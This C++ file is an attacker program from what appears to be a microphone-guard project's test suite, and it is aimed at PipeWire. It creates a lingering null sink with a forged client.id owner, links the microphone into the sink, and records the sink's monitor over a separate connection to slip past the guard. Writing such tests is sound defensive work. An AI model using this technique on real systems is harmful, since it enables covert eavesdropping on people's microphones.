// SPDX-License-Identifier: GPL-3.0-or-later
// Has the server make a sink that outlives its maker (object.linger), for which the server then believes any client.id it
// is told: it names the session manager's (or nobody's, --nobody), links the microphone into it or lets the session
// manager do so, and listens to the sink's monitor. Tier 3 (a sandboxed client may create such nodes, too).
#include "tests/attackers/client.hpp"
#include "tests/attackers/victim.hpp"

#include <unistd.h>

namespace micguard::attack {
namespace {

int attack(const Options& options) {
    Report report(options, 3);
    Loop loop(options);
    const auto connection = Connection::open(loop, options, "forged_owner");
    if (!connection || !connection->roundTrip())
        throw std::runtime_error("no server");
    std::string owner;
    for (const Global& client : connection->ofType(PW_TYPE_INTERFACE_Client))
        if (isSessionManager(client))
            owner = std::to_string(client.id);
    const std::string sink = "forged_owner.sink." + std::to_string(::getpid());
    const std::string ownEar = "forged_owner.listener";
    Properties asked{{"factory.name", "support.null-audio-sink"},
                     {"node.name", sink},
                     {"object.linger", "true"},
                     {"node.autoconnect", "true"},
                     {"target.object", options.source},
                     {"audio.channels", "1"},
                     {"audio.position", "[ MONO ]"},
                     {"monitor.channel-volumes", "false"},
                     {"monitor.passthrough", "true"},
                     {"adapter.auto-port-config", "{ mode = dsp monitor = true }"},
                     {"media.class", options.value("media-class", "Stream/Input/Audio")}};
    if (!options.has("nobody"))
        asked["client.id"] = owner;
    std::vector<spa_dict_item> items;
    for (const auto& [key, value] : asked)
        items.push_back({key.c_str(), value.c_str()});
    const spa_dict properties{0, static_cast<std::uint32_t>(items.size()), items.data()};
    auto* made = static_cast<pw_proxy*>(pw_core_create_object(
        connection->core(), "adapter", PW_TYPE_INTERFACE_Node, PW_VERSION_NODE, &properties, 0));
    // The ear has a connection of its own: nothing that the guard does to listeners shall hit the one that links.
    const auto second = Connection::open(loop, options, ownEar);
    if (made == nullptr || !second)
        throw std::runtime_error("no sink");
    FilterEar ear(*second, report, ownEar);
    Links in(*connection, report), out(*second, report);
    loop.every(std::chrono::milliseconds(10), [&] {
        if (in.standing() == 0)
            in.requestAll(options.source, sink);
        if (out.standing() == 0)
            out.requestAll(sink, ownEar);
        if (report.exhausted() || connection->lost())
            loop.end();
    });
    loop.run();
    report.note("standing", in.standing());
    report.note("owner", options.has("nobody") ? "" : owner);
    if (const auto left = connection->node(sink))
        pw_registry_destroy(connection->registry(), left->id);
    connection->roundTrip();
    report.print();
    return 0;
}

} // namespace
} // namespace micguard::attack

int main(int argc, char** argv) {
    using namespace micguard::attack;
    const Options options = parseOptions(argc, argv, {"nobody"}, {"media-class"});
    return runAttack(argc, argv, options, [&] { return attack(options); });
}
